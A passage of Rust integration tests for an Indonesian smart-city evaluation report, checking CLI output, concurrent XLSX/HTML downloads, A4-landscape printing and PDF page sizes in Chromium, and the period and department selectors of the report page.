    drop(daemon);
    let html = dir.path().join("laporan.html");
    let out = run(html.to_str().unwrap());
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!String::from_utf8_lossy(&out.stderr).contains("served by"));
    let text = std::fs::read_to_string(&html).unwrap();
    assert!(text.starts_with("<!doctype html>"));
    assert!(text.contains(&format!("Triwulan IV Tahun {a}")));
    let out = run("-");
    let again: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(strip(again), strip(from_cli));
}

#[tokio::test]
async fn several_reports_at_once_are_all_made_while_the_daemon_keeps_serving() {
    let (a, _) = years();
    let app = report_app().await;
    let mut tasks = Vec::new();
    for k in 0..6 {
        let url = app.url(&format!(
            "/api/v1/reports/evaluation?year={a}&format={}",
            if k % 2 == 0 { "xlsx" } else { "html" }
        ));
        let client = app.client.clone();
        tasks.push(tokio::spawn(async move {
            let r = client.get(url).send().await.unwrap();
            (r.status().as_u16(), r.bytes().await.unwrap().len())
        }));
    }
    let (s, _) = app.get("/healthz").await;
    assert_eq!(s, 200, "a normal client is served meanwhile");
    for t in tasks {
        let (s, n) = t.await.unwrap();
        assert_eq!(s, 200);
        assert!(n > 1000);
    }
    app.stop().await;
}

// ---------------------------------------------------------------------------------------------
// In Chromium

fn screenshots() -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("target")
        .join("screenshots")
}

/// The pages of a PDF Chromium wrote (its page objects are plain dictionaries).
fn pdf_pages(pdf: &[u8]) -> Vec<(f64, f64)> {
    let text = String::from_utf8_lossy(pdf);
    let mut sizes = Vec::new();
    let mut rest = text.as_ref();
    while let Some(i) = rest.find("/Type /Page") {
        let after = &rest[i + "/Type /Page".len()..];
        rest = after;
        if after.starts_with('s') {
            continue;
        }
        // The page's dictionary holds its MediaBox nearby.
        let window: String = after.chars().take(600).collect();
        if let Some(m) = window.find("/MediaBox [") {
            let nums: Vec<f64> = window[m + 11..]
                .split(']')
                .next()
                .unwrap_or("")
                .split_whitespace()
                .filter_map(|n| n.parse().ok())
                .collect();
            if nums.len() == 4 {
                sizes.push((nums[2] - nums[0], nums[3] - nums[1]));
                continue;
            }
        }
        sizes.push((0.0, 0.0));
    }
    sizes
}

#[tokio::test]
async fn the_html_report_prints_on_a4_landscape_without_clipping_a_cell() {
    let (a, _) = years();
    let app = report_app().await;
    let browser = browser::Browser::launch().await;
    // 297 mm less two 12 mm margins is 273 mm: 1,032 CSS pixels.
    let page = browser.new_page(1032, 730).await;
    page.emulate_media("print").await;
    page.goto(&app.url(&format!("/api/v1/reports/evaluation?year={a}&format=html")))
        .await;
    let title = page.eval("document.title").await;
    assert_eq!(
        title,
        json!(format!(
            "Laporan Evaluasi Masterplan Smart City — Kota Uji — Tahun {a}"
        ))
    );
    assert_eq!(
        page.eval("window.__injected === undefined").await,
        json!(true)
    );
    assert_eq!(page.eval("document.scripts.length").await, json!(0));
    let overflow = page
        .eval(
            "[...document.querySelectorAll('td, th')].filter(c => c.scrollWidth > c.clientWidth + 1) \
             .map(c => c.textContent.slice(0, 40))",
        )
        .await;
    assert_eq!(
        overflow,
        json!([]),
        "cells whose content overflows their box"
    );
    let wide = page
        .eval(
            "[...document.querySelectorAll('table')].filter(t => t.getBoundingClientRect().right > document.documentElement.clientWidth + 0.5).length \
             + (document.documentElement.scrollWidth > document.documentElement.clientWidth ? 100 : 0)",
        )
        .await;
    assert_eq!(wide, json!(0), "tables wider than the A4 landscape page");
    let cells = page
        .eval("document.querySelectorAll('table.indicators tbody tr[data-id]').length")
        .await;
    assert_eq!(cells, json!(7));
    page.screenshot(&screenshots().join("report-print.png"))
        .await;

    let pdf = page.print_to_pdf(&screenshots().join("report.pdf")).await;
    assert!(pdf.starts_with(b"%PDF"), "a PDF");
    let pages = pdf_pages(&pdf);
    // The summaries, then each of the two dimensions on a page of its own.
    assert!(pages.len() >= 3, "{} pages", pages.len());
    for (w, h) in &pages {
        assert!(
            (w - 841.9).abs() < 2.0 && (h - 595.3).abs() < 2.0,
            "A4 landscape pages (841.9 x 595.3 pt), found {w} x {h}"
        );
    }
    // The first page as an image, where pdftoppm is installed (poppler-utils).
    if std::process::Command::new("pdftoppm")
        .arg("-v")
        .output()
        .is_ok()
    {
        let status = std::process::Command::new("pdftoppm")
            .args(["-png", "-r", "80", "-f", "1", "-l", "3"])
            .arg(screenshots().join("report.pdf"))
            .arg(screenshots().join("report-page"))
            .status()
            .unwrap();
        assert!(status.success());
    }
    assert_eq!(page.errors(), Vec::<String>::new());
    app.stop().await;
}

#[tokio::test]
async fn the_laporan_page_picks_a_period_and_offers_the_downloads() {
    let (a, b) = years();
    let app = report_app().await;
    let browser = browser::Browser::launch().await;
    let page = browser.new_page(1400, 1000).await;
    page.goto(&app.url("/laporan")).await;
    assert!(
        page.wait_for(
            "document.body.dataset.ready === '1'",
            Duration::from_secs(10)
        )
        .await
        .is_some(),
        "{:?}",
        page.errors()
    );
    assert_eq!(
        page.eval("document.title").await,
        json!("Laporan evaluasi · Kota Uji · pantau")
    );
    let years: Vec<String> = serde_json::from_value(
        page.eval("[...document.querySelectorAll('#report-year option')].map(o => o.value)")
            .await,
    )
    .unwrap();
    assert_eq!(years, [a.to_string(), b.to_string()]);
    // This year has no targets: the latest year before it is chosen.
    assert_eq!(
        page.eval("document.getElementById('report-year').value")
            .await,
        json!(b.to_string())
    );
    // Choosing year a, TW II and Dishub updates the links and the figures.
    page.eval(&format!(
        "(() => {{ const y = document.getElementById('report-year'); y.value = '{a}'; \
         document.getElementById('report-quarter').value = '2'; \
         document.getElementById('report-department').value = 'dishub'; \
         document.body.dataset.ready = ''; y.dispatchEvent(new Event('change')); }})()"
    ))
    .await;
    assert!(
        page.wait_for(
            "document.body.dataset.ready === '1'",
            Duration::from_secs(10)
        )
        .await
        .is_some()
    );
    let href = page
        .eval("document.getElementById('download-xlsx').getAttribute('href')")
        .await;
    assert_eq!(
        href,
        json!(format!(
            "/api/v1/reports/evaluation?year={a}&format=xlsx&quarter=2&department=dishub"
        ))
    );
    let download = page
        .eval("document.getElementById('download-xlsx').download")
        .await;
    assert_eq!(
        download,
        json!(format!("laporan-evaluasi-kota-uji-{a}-tw2-dishub.xlsx"))
    );
    let (_, r) = app
        .get(&format!(
            "/api/v1/reports/evaluation?year={a}&quarter=2&department=dishub"
        ))
        .await;
    let shown = page
        .eval("document.querySelector('[data-figure=indicators] b').textContent")
        .await;
    assert_eq!(
        shown,
        json!(r["summary"]["overall"]["indicators"].to_string())
    );
    // The whole year for every OPD: 92,26 % overall, in Indonesian digits.
    page.eval(
        "(() => { document.getElementById('report-quarter').value = ''; \
         document.getElementById('report-department').value = ''; document.body.dataset.ready = ''; \
         document.getElementById('report-year').dispatchEvent(new Event('change')); })()",
    )
    .await;
    page.wait_for(
        "document.body.dataset.ready === '1'",
        Duration::from_secs(10),
    )
    .await;
    let capaian = page
        .eval("document.querySelector('[data-figure=capaian] b').textContent")
        .await;
    assert_eq!(capaian, json!("92,26%"));
    // Viewing the report in the page's frame.
    page.eval("document.getElementById('view').click()").await;
    let framed = page
        .wait_for(
            "(() => { const d = document.getElementById('preview').contentDocument; return d && d.querySelector('h1') && d.querySelector('h1').textContent; })()",
            Duration::from_secs(10),
        )
        .await;
    assert_eq!(
        framed,
        Some(json!("Laporan Evaluasi Masterplan Smart City"))
    );
    tokio::time::sleep(Duration::from_millis(300)).await;
    page.screenshot(&screenshots().join("laporan.png")).await;
    assert_eq!(
        page.errors(),
        Vec::<String>::new(),
        "console errors or policy violations"
    );

    // English on request.
    page.goto(&app.url("/laporan?lang=en")).await;
    page.wait_for(
        "document.body.dataset.ready === '1'",
        Duration::from_secs(10),
    )
    .await;
    assert_eq!(
        page.eval("document.getElementById('download-xlsx').textContent")
            .await,
        json!("Download XLSX")
    );
    app.stop().await;
}
